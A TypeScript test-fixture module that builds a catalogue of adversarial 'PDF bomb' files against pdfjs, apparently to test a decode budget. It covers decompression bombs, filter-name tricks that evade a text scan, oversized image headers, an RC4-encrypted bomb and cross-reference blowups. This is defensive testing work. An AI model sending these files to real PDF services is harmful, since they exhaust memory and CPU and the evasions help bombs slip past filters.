import { createHash } from 'node:crypto';
import { brotliCompressSync, constants, deflateSync } from 'node:zlib';
import { onePage, pdfStream, writePdf } from './pdf-writer.ts';
import {
  BROTLI_2_GIB,
  cached,
  deflatedZeros,
  deflateRepeated,
  GiB,
  hugeJ2k,
  hugeJbig2,
  hugeJpeg,
  latin1,
  lzwZeros,
  MARKER,
  MiB,
} from './pdf-bomb-payloads.ts';

/**
 * Adversarial PDFs: every way known to make pdfjs produce far more bytes, or work, than the file holds (ported from the research session's generators). Each is valid enough that pdfjs decodes the payload on its normal
 * path: page content for the text layer, an image for the operator list or rendering, the cross-reference data or an
 * object stream when the file is opened. The page text starts with `BOMB`: a reader that decodes the whole stream
 * answers it.
 *
 * `decoded` is the payload's decoded size; the defaults pass every limit of shared/pdf/decode-budget.ts by 4× or more
 * and build in well under a second; bench/pdf-bombs.ts asks for 1 GiB. Big payloads are cached on disk.
 */
export interface PdfBomb {
  name: string;
  /** What pdfjs does with it, and what the scan before the decode bound did. */
  description: string;
  /** Which pdfjs step decodes it: opening (`open`), the text layer (`text`) or the drawing (`ops`). */
  bites: 'open' | 'text' | 'ops';
  make(options?: { decoded?: number }): Promise<Buffer>;
}

// Standard security handler, revision 2 (RC4, 40-bit key), empty passwords: the file opens without one.
const PAD = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
const md5 = (...parts: Uint8Array[]) => {
  const hash = createHash('md5');
  for (const part of parts) hash.update(part);
  return hash.digest();
};

function rc4(key: Uint8Array, data: Uint8Array): Buffer {
  const S = Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + S[i]! + key[i % key.length]!) & 0xff;
    [S[i], S[j]] = [S[j]!, S[i]!];
  }
  const out = Buffer.alloc(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n++) {
    i = (i + 1) & 0xff;
    j = (j + S[i]!) & 0xff;
    [S[i], S[j]] = [S[j]!, S[i]!];
    out[n] = data[n]! ^ S[(S[i]! + S[j]!) & 0xff]!;
  }
  return out;
}

/** One page whose content stream is `content` (already encoded) under `dict` (its `/Filter`...). */
export function pageWithContent(dict: string, content: Uint8Array): Buffer {
  return writePdf([...onePage(), pdfStream(dict, content)]);
}

/** One page that paints the image XObject `/Im1` (object 6) over the page. */
function pageWithImage(imageDict: string, data: Uint8Array): Buffer {
  return writePdf([
    ...onePage('5 0 R', '/XObject << /Im1 6 0 R >>'),
    pdfStream('', latin1(`${MARKER}q 600 0 0 780 6 6 cm /Im1 Do Q\n`)),
    pdfStream(`/Type /XObject /Subtype /Image ${imageDict}`, data),
  ]);
}

const hex = (bytes: Uint8Array) => latin1(`${Buffer.from(bytes).toString('hex')}>`);

/** The Brotli PDF: 2 GiB of decoded zeros from about 2 KB (or `decoded` bytes, compressed here). */
export async function brotliBombPdf(decoded?: number): Promise<Buffer> {
  const payload =
    decoded === undefined
      ? BROTLI_2_GIB
      : await cached(`brotli:${decoded}`, false, async () =>
          brotliCompressSync(Buffer.concat([latin1(MARKER), Buffer.alloc(decoded)]), {
            params: { [constants.BROTLI_PARAM_QUALITY]: 5, [constants.BROTLI_PARAM_LGWIN]: 24 },
          }),
        );
  return pageWithContent('/Filter /BrotliDecode', payload);
}

const streamBomb = 64 * MiB;

/** Every adversarial file, by name. */
export const PDF_BOMBS: PdfBomb[] = [
  {
    name: 'brotli',
    bites: 'text',
    description: 'content stream /BrotliDecode: 1.7 KB of Brotli holding 2 GiB of zeros (the incident file)',
    make: (o) => brotliBombPdf(o?.decoded),
  },
  {
    name: 'flate-abbreviated',
    bites: 'text',
    description: '/Filter /Fl, the abbreviation of FlateDecode (the text scan looked for /FlateDecode)',
    make: async (o) => pageWithContent('/Filter /Fl', await deflatedZeros(o?.decoded ?? streamBomb)),
  },
  {
    name: 'flate-name-escape',
    bites: 'text',
    description: '/Filter /Flat#65Decode: a #xx escape inside the name',
    make: async (o) => pageWithContent('/Filter /Flat#65Decode', await deflatedZeros(o?.decoded ?? streamBomb)),
  },
  {
    name: 'flate-indirect-filter',
    bites: 'text',
    description: '/Filter 6 0 R, object 6 being /FlateDecode: the name is not in the stream dictionary',
    make: async (o) =>
      writePdf([
        ...onePage(),
        pdfStream('/Filter 6 0 R', await deflatedZeros(o?.decoded ?? streamBomb)),
        '/FlateDecode',
      ]),
  },
  {
    name: 'flate-padded-dict',
    bites: 'text',
    description: 'the stream dictionary padded past 4 KB after /Filter /FlateDecode (the scan looked 4 KB back)',
    make: async (o) =>
      pageWithContent(`/Filter /FlateDecode /Pad (${'x'.repeat(6000)})`, await deflatedZeros(o?.decoded ?? streamBomb)),
  },
  {
    name: 'chain-hex-flate',
    bites: 'text',
    description: '/Filter [/ASCIIHexDecode /FlateDecode]: the Flate data is hex text',
    make: async (o) =>
      pageWithContent('/Filter [/ASCIIHexDecode /FlateDecode]', hex(await deflatedZeros(o?.decoded ?? streamBomb))),
  },
  {
    name: 'chain-flate-flate',
    bites: 'text',
    description: '/Filter [/FlateDecode /FlateDecode]: two layers, a few KB',
    make: async (o) =>
      pageWithContent(
        '/Filter [/FlateDecode /FlateDecode]',
        deflateSync(await deflatedZeros(o?.decoded ?? streamBomb), { level: 9 }),
      ),
  },
  {
    name: 'lzw',
    bites: 'text',
    description: '/LZWDecode: 12-bit codes each standing for about 3,800 zeros',
    make: async (o) => pageWithContent('/Filter /LZWDecode', lzwZeros(o?.decoded ?? streamBomb)),
  },
  {
    name: 'runlength',
    bites: 'text',
    description: '/Filter [/FlateDecode /RunLengthDecode]: 128-byte runs, deflated',
    make: async (o) => {
      const marker = latin1(MARKER);
      const literal = Buffer.concat([Buffer.from([marker.length - 1]), marker]);
      const runs = Math.ceil((o?.decoded ?? streamBomb) / 128);
      const data = await cached(`rl:${runs}`, runs * 2 > 256 * MiB, () =>
        deflateRepeated(literal, Buffer.from([0x81, 0x00]), runs * 2),
      );
      return pageWithContent('/Filter [/FlateDecode /RunLengthDecode]', data);
    },
  },
  {
    name: 'predictor-columns',
    bites: 'text',
    description: '/DecodeParms << /Predictor 12 /Columns 250000000 >>: row buffers sized from /Columns',
    make: async () =>
      pageWithContent(
        '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 250000000 >>',
        deflateSync(Buffer.concat([Buffer.from([2]), Buffer.alloc(1000)])),
      ),
  },
  {
    name: 'predictor-tiff-colors',
    bites: 'text',
    description: '/DecodeParms << /Predictor 2 /Colors 60 /BitsPerComponent 16 /Columns 1000000 >>',
    make: async () =>
      pageWithContent(
        '/Filter /FlateDecode /DecodeParms << /Predictor 2 /Colors 60 /BitsPerComponent 16 /Columns 1000000 >>',
        deflateSync(Buffer.alloc(1000)),
      ),
  },
  {
    name: 'operator-flood',
    bites: 'text',
    description: 'a 12 MiB content stream (under the stream limit) of `q Q`: 3 M operators, no text',
    make: async (o) => {
      const size = o?.decoded ?? 12 * MiB;
      const data = await cached(`qq:${size}`, false, () => deflateRepeated(latin1(MARKER), latin1('q Q\n'), size));
      return pageWithContent('/Filter /FlateDecode', data);
    },
  },
  {
    name: 'contents-array-repeat',
    bites: 'text',
    description: '/Contents [6 0 R × 2000]: one 12 MiB stream (under the stream limit) listed 2,000 times (24 GiB)',
    make: async () =>
      writePdf([
        ...onePage('5 0 R'),
        `[${new Array(2000).fill('6 0 R').join(' ')}]`,
        pdfStream('/Filter /FlateDecode', await deflatedZeros(12 * MiB)),
      ]),
  },
  {
    name: 'form-fanout',
    bites: 'text',
    description: 'a 12 MiB form XObject (under the stream limit) drawn 10,000 times from a 17 KB file',
    make: async () => {
      const form = pdfStream(
        '/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Filter /FlateDecode',
        await deflatedZeros(12 * MiB, 'BT /F1 1 Tf (f) Tj ET\n'),
      );
      const page = deflateSync(latin1(`${MARKER}${'/Fm1 Do\n'.repeat(10000)}`));
      return writePdf([
        ...onePage('5 0 R', '/XObject << /Fm1 6 0 R >>'),
        pdfStream('/Filter /FlateDecode', page),
        form,
      ]);
    },
  },
  {
    name: 'inline-image',
    bites: 'ops',
    description: 'an inline image 6000×6000 grey (BI /F /Fl … ID … EI) whose data inflates past its size',
    make: async (o) => {
      const data = await deflatedZeros(o?.decoded ?? 128 * MiB, '');
      const content = Buffer.concat([
        latin1(`${MARKER}q 100 0 0 100 0 0 cm BI /W 6000 /H 6000 /BPC 8 /CS /G /F /Fl ID\n`),
        data,
        latin1('\nEI Q\n'),
      ]);
      return writePdf([...onePage(), pdfStream('', content)]);
    },
  },
  {
    name: 'image-flate',
    bites: 'ops',
    description: 'an image XObject 6000×6000 RGB, /FlateDecode, inflating past the image limit',
    make: async (o) =>
      pageWithImage(
        '/Width 6000 /Height 6000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
        await deflatedZeros(o?.decoded ?? 128 * MiB, ''),
      ),
  },
  {
    name: 'image-jpeg-frame',
    bites: 'ops',
    description: 'DCT image: the dictionary says 16×16, the JPEG frame header 30000×30000',
    make: async () =>
      pageWithImage(
        '/Width 16 /Height 16 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode',
        hugeJpeg(30000, 30000),
      ),
  },
  {
    name: 'image-jpx-size',
    bites: 'ops',
    description: 'JPX image: the dictionary says 1×1, the SIZ marker 60000×60000',
    make: async () => pageWithImage('/Width 1 /Height 1 /BitsPerComponent 8 /Filter /JPXDecode', hugeJ2k(60000, 60000)),
  },
  {
    name: 'image-jbig2-page',
    bites: 'ops',
    description: 'JBIG2 image: the dictionary says 6000×6000, the page information 2^30 × 2^30',
    make: async () =>
      pageWithImage('/Width 6000 /Height 6000 /ImageMask true /Filter /JBIG2Decode', hugeJbig2(2 ** 30, 2 ** 30)),
  },
  {
    name: 'image-ccitt-size',
    bites: 'ops',
    description: 'CCITT image: /DecodeParms << /K -1 /Columns 1000000 /Rows 1000000 >>',
    make: async () =>
      pageWithImage(
        '/Width 6000 /Height 6000 /ImageMask true /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 1000000 /Rows 1000000 >>',
        Buffer.alloc(4096),
      ),
  },
  {
    name: 'encrypted-flate',
    bites: 'text',
    description: 'an RC4-encrypted file (empty password): the Flate bomb is ciphertext in the file',
    make: async (o) => {
      const id = Buffer.from('0123456789abcdef0123456789abcdef', 'hex');
      const O = rc4(md5(PAD).subarray(0, 5), PAD);
      const p = Buffer.alloc(4);
      p.writeInt32LE(-4);
      const key = md5(PAD, O, p, id).subarray(0, 5);
      const U = rc4(key, PAD);
      const objectKey = md5(key, Buffer.from([5, 0, 0, 0, 0])).subarray(0, 10);
      const data = rc4(objectKey, await deflatedZeros(o?.decoded ?? streamBomb));
      return writePdf([...onePage(), pdfStream('/Filter /FlateDecode', data)], {
        trailer:
          `/Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /O <${O.toString('hex')}> /U <${U.toString('hex')}> /P -4 >> ` +
          `/ID [<${id.toString('hex')}> <${id.toString('hex')}>] `,
      });
    },
  },
  {
    name: 'object-stream',
    bites: 'open',
    description:
      'catalog and pages inside an /ObjStm whose tail inflates past the limit (decoded whole for its last member)',
    make: async (o) => {
      const decoded = o?.decoded ?? streamBomb;
      const objects = onePage();
      let header = '';
      let data = '';
      objects.forEach((body, i) => {
        header += `${i + 1} ${data.length} `;
        data += `${body}\n`;
      });
      header += '\n';
      const encoded = await cached(`objstm:${decoded}`, decoded > 256 * MiB, () =>
        deflateRepeated(latin1(header + data), Buffer.alloc(1), decoded),
      );
      return writePdf([...objects, pdfStream('', latin1(MARKER)), ''], {
        compressed: { objStm: 6, members: [1, 2, 3, 4], encoded, first: header.length },
      });
    },
  },
  {
    name: 'xref-stream-entries',
    bites: 'open',
    description: 'a cross-reference stream declaring 100 M entries (one JavaScript object each in pdfjs)',
    make: async (o) => {
      const extra = o?.decoded ?? 100_000_000;
      const head = writePdf([...onePage(), pdfStream('', latin1(MARKER))], { xref: 'table' });
      const body = head.subarray(0, head.indexOf(latin1('xref\n')));
      const entries = Buffer.alloc(7 * 7);
      entries.writeUInt16BE(0xffff, 5);
      for (let num = 1; num <= 5; num++) {
        entries[num * 7] = 1;
        entries.writeUInt32BE(
          num === 1 ? body.indexOf(latin1('1 0 obj\n')) : body.indexOf(latin1(`\n${num} 0 obj\n`)) + 1,
          num * 7 + 1,
        );
      }
      entries[6 * 7] = 1;
      entries.writeUInt32BE(body.length, 6 * 7 + 1);
      const data = await cached(`xref:${extra}`, true, () => deflateRepeated(entries, Buffer.alloc(1), extra * 7));
      const xref = pdfStream(`/Type /XRef /Size ${7 + extra} /W [1 4 2] /Root 1 0 R /Filter /FlateDecode`, data);
      return Buffer.concat([body, latin1('6 0 obj\n'), xref, latin1(`\nendobj\nstartxref\n${body.length}\n%%EOF\n`)]);
    },
  },
];

/** The bomb called `name`. */
export function pdfBomb(name: string): PdfBomb {
  const bomb = PDF_BOMBS.find((b) => b.name === name);
  if (!bomb) throw new Error(`no PDF bomb called ${name}`);
  return bomb;
}

/** The files the issue measures: the Brotli PDF and each spelling the text scan missed. */
export const ISSUE_BOMBS = [
  'brotli',
  'flate-abbreviated',
  'flate-name-escape',
  'flate-indirect-filter',
  'flate-padded-dict',
];

export { GiB, MiB };
